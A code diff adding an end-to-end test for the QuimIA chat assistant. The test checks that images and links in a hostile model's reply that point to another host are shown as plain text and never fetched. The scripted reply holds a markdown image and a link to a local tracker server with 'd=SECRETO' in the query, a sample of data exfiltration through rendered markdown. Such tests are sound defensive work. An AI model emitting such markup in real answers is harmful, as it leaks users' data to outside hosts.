@@ -1,3 +1,5 @@
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import {
   startOpenAiPeer,
@@ -124,5 +126,56 @@ describe('QuimIA against an OpenAI-compatible server', () => {
     const asked = peer.requests.at(-1)?.body;
     expect(asked?.messages.at(-1)?.content).toBe('¿En qué presentaciones viene?');
     expect(asked?.tools).toBeUndefined();
+  });
+
+  it("draws a hostile model's images and links to other hosts as text: nothing is fetched from them", async () => {
+    // Another host of the loopback, counting what reaches it.
+    const hits: string[] = [];
+    const tracker: Server = createServer((request, response) => {
+      hits.push(request.url ?? '');
+      response.end();
+    });
+    await new Promise<void>((resolve) => tracker.listen(0, '127.0.0.1', resolve));
+    const elsewhere = `http://127.0.0.1:${(tracker.address() as AddressInfo).port}`;
+    const { page } = session;
+    const asked: string[] = [];
+    page.on('request', (request) => asked.push(request.url()));
+    try {
+      await page.goto('/auth/jwt/login');
+      await signIn(page);
+      await page.waitForURL((url) => url.pathname === '/dashboard');
+      await page.goto('/dashboard/chat');
+      peer.script([
+        {
+          text:
+            `Listo. ![p](${elsewhere}/leak.png?d=SECRETO) ` +
+            `[ver detalle](${elsewhere}/clic?d=SECRETO) y [el producto](${PRODUCT.path}).`,
+        },
+      ]);
+      const field = page.getByLabel('Pregunta a QuimIA');
+      await field.fill('Resume lo que sabes');
+      await field.press('Enter');
+      const answer = page.getByRole('article', { name: 'Respuesta de QuimIA' }).last();
+      await expect.poll(() => answer.getAttribute('aria-busy')).toBe('false');
+      await expect.poll(() => answer.innerText()).toContain('ver detalle');
+
+      expect(await answer.locator('img').count()).toBe(0);
+      const hrefs = await answer
+        .locator('a')
+        .evaluateAll((links) => links.map((link) => link.getAttribute('href')));
+      expect(hrefs).toEqual([PRODUCT.path]);
+      // Reloaded from storage, the same.
+      await page.reload();
+      await expect.poll(() => answer.innerText()).toContain('ver detalle');
+      expect(await answer.locator('img').count()).toBe(0);
+
+      const origin = new URL(server.url).origin;
+      expect(asked.filter((url) => /^https?:/.test(url) && !url.startsWith(`${origin}/`))).toEqual(
+        [],
+      );
+      expect(hits).toEqual([]);
+    } finally {
+      await new Promise((resolve) => tracker.close(resolve));
+    }
   });
 });
